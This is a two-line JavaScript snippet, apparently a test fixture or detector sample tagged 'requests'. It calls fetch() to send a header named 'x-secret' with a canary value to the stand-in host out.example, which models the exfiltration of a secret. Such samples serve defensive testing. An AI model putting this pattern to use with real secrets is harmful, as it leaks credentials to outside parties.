/* {"family": "requests"} */
fetch('https://out.example/fetch', { headers: { 'x-secret': 'canary' } });
